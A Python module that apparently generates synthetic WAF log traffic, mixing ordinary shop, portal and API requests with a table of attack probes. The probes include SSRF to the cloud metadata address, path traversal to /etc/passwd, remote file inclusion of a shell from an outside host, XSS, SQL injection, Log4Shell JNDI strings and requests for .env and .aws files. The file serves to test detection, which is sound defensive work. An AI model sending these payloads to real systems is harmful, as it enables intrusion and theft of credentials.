"""What is asked for: pages, API calls and probes as pre-rendered JSON fragments."""

from __future__ import annotations

from collections.abc import Iterable
from dataclasses import dataclass

import numpy as np

from bartizan.simulate.pools import Fragments, Pool, compact, escaped, zipf
from bartizan.simulate.seeds import generator
from bartizan.simulate.sites import Site

_INSPECTED_BYTES = {"ALB": 8_192, "APPSYNC": 8_192}  # by source; the others:
_INSPECTED_BYTES_DEFAULT = 16_384


@dataclass(frozen=True)
class Request:
    """`{id}` in `uri` and `args` becomes a number, small ones far more often than large ones."""

    method: str
    uri: str
    args: str = ""
    body: int = 0
    headers: tuple[tuple[str, str], ...] = ()


ORDINARY = {
    "shop-front": (
        Request("GET", "/"),
        Request("GET", "/products/{id}"),
        Request("GET", "/assets/app.{id}.js"),
        Request("GET", "/images/{id}.webp"),
        Request("GET", "/search", "q=item+{id}&page=1"),
        Request("GET", "/category/{id}"),
        Request("GET", "/api/stock", "sku={id}"),
        Request("HEAD", "/products/{id}"),
        Request("POST", "/cart", body=240),
        Request("GET", "/account/orders/{id}"),
    ),
    "app-portal": (
        Request("GET", "/dashboard"),
        Request("GET", "/projects/{id}"),
        Request("POST", "/api/projects/{id}/notes", body=1_800),
        Request("GET", "/api/users/{id}"),
        Request("GET", "/static/{id}.css"),
        Request("POST", "/login", body=180),
        Request("PUT", "/api/projects/{id}", body=2_600),
        Request("POST", "/upload", body=9_000),
        Request("GET", "/reports", "year=2025&id={id}"),
    ),
    "partner_api": (
        Request("GET", "/prod/v2/orders/{id}"),
        Request("POST", "/prod/v2/orders", body=3_200),
        Request("GET", "/prod/v2/prices", "sku={id}"),
        Request("PUT", "/prod/v2/stock/{id}", body=420),
        Request("GET", "/prod/v1/orders/{id}"),
        Request("PATCH", "/prod/v2/orders/{id}", body=300),
        Request("DELETE", "/prod/v2/carts/{id}"),
    ),
    "mobile-graphql": (
        Request("POST", "/graphql", body=600),
        Request("POST", "/graphql", body=1_700),
        Request("OPTIONS", "/graphql"),
    ),
}

PROBES = {
    "browse": (Request("GET", "/"), Request("GET", "/robots.txt"), Request("GET", "/items/{id}")),
    "post": (Request("POST", "/api/comments", body=900),),
    "login": (Request("POST", "/login", body=180),),
    "long_query": (Request("GET", "/search", "q=" + "a" * 2_100),),
    "large_body": (Request("POST", "/upload", body=70_000),),
    "metadata": (Request("GET", "/fetch", "url=http://169.254.169.254/latest/meta-data/"),),
    "lfi_query": (Request("GET", "/download", "file=../../../../etc/passwd"),),
    "lfi_path": (Request("GET", "/..%2f..%2f..%2fetc/passwd"), Request("GET", "/img/../../x")),
    "extensions": (Request("GET", "/backup.sql"), Request("GET", "/config.ini")),
    "rfi": (Request("GET", "/index.php", "page=http://198.18.0.9/shell.txt"),),
    "xss": (Request("GET", "/search", 'q="><script>alert({id})</script>'),),
    "sqli": (Request("GET", "/products", "id=10 OR 1=1 -- {id}"),),
    "log4j_header": (Request("GET", "/", headers=(("x-api-version", "${jndi:ldap://x.test/a}"),)),),
    "log4j_query": (Request("GET", "/", "x=${jndi:ldap://x.test/{id}}"),),
    "propfind": (Request("PROPFIND", "/"),),
    "paths": (
        Request("GET", "/.git/config"),
        Request("GET", "/.env"),
        Request("GET", "/.aws/{id}"),
    ),
    "admin": (Request("GET", "/admin/"), Request("GET", "/wp-admin/setup.php")),
    "delete": (Request("DELETE", "/prod/v2/orders/{id}"),),
    "retired": (
        Request("GET", "/prod/v1/orders/{id}"),
        Request("POST", "/prod/v1/orders", body=90),
    ),
    "forms": (Request("POST", "/api/projects/{id}/notes", body=9_500),),
    "write": (Request("POST", "/products/{id}", body=320), Request("POST", "/search", body=120)),
    "flood": (Request("GET", "/search", "q={id}"), Request("GET", "/")),
    "health": (Request("GET", "/health"),),
    "checkout": (Request("GET", "/checkout"),),
}


def ordinary(site: Site, seed: int) -> Pool:
    """The site's own pages and calls, the first templates most wanted."""
    return _pool(site, ORDINARY[site.webacl], generator(seed, "requests", site.webacl), 250)


def probe(site: Site, name: str, seed: int) -> Pool:
    """Requests of one entry of PROBES."""
    return _pool(site, PROBES[name], generator(seed, "requests", site.webacl, name), 40)


def _pool(
    site: Site, templates: Iterable[Request], rng: np.random.Generator, variants: int
) -> Pool:
    fragments: list[Fragments] = []
    weights: list[float] = []
    for rank, template in enumerate(templates, start=1):
        count = variants if "{id}" in template.uri + template.args or template.body else 1
        for share in zipf(count, 1.1) / zipf(count, 1.1).sum():
            fragments.append(_fragments(site, template, rng))
            weights.append(float(share) / rank)
    return Pool.of(fragments, weights)


def _fragments(site: Site, template: Request, rng: np.random.Generator) -> Fragments:
    """The three fragments (headers and URI, method, body sizes) of one request."""
    number = str(int(rng.pareto(0.7) * 20) % 900_000 + 1)
    uri, args = (text.replace("{id}", number) for text in (template.uri, template.args))
    size = int(template.body * rng.uniform(0.8, 1.3))
    headers = list(template.headers)
    if size:
        headers += [("content-type", "application/json"), ("content-length", str(size))]
    rendered = "".join(f",{compact({'name': name, 'value': value})}" for name, value in headers)
    return (
        f'{rendered}],"uri":"{escaped(uri)}","args":"{escaped(args)}","httpVersion":"',
        f'","httpMethod":"{template.method}","requestId":"',
        _body(site, size),
    )


def _body(site: Site, size: int) -> str:
    if not size:
        return ""
    inspected = min(size, _INSPECTED_BYTES.get(site.source, _INSPECTED_BYTES_DEFAULT))
    oversize = ',"oversizeFields":["REQUEST_BODY"]' if size > inspected else ""
    return f'{oversize},"requestBodySize":{size},"requestBodySizeInspectedByWAF":{inspected}'
